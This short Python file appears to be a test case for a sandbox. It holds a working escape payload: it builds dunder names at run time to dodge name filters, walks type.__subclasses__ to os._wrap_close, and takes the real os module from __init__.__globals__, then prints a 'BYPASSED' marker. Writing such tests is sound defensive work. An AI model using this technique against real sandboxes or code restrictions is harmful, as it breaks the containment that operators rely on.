# attack: vars() of a plain variable is allowed and indexing its alias is not checked, so look up
#   type.__subclasses__ and function.__globals__ as descriptors with names built at run time
# escaped-if: stdout has "BYPASSED:" (the real os module's globals were reached)
def name(text):
    return text.replace("Z", "_")


metaclass = type
metaclass_dict = vars(metaclass)
every_class = metaclass_dict[name("ZZsubclassesZZ")](object)
wrap_close = [c for c in every_class if c.__name__ == name("Zwrap_close")][0]
function_type = type(name)
function_dict = vars(function_type)
wrap_close_dict = vars(wrap_close)
init = wrap_close_dict[name("ZZinitZZ")]
real_os = function_dict[name("ZZglobalsZZ")].__get__(init)
print("BYPASSED: descriptors looked up by computed names reached os; os.getuid() =", real_os["getuid"]())
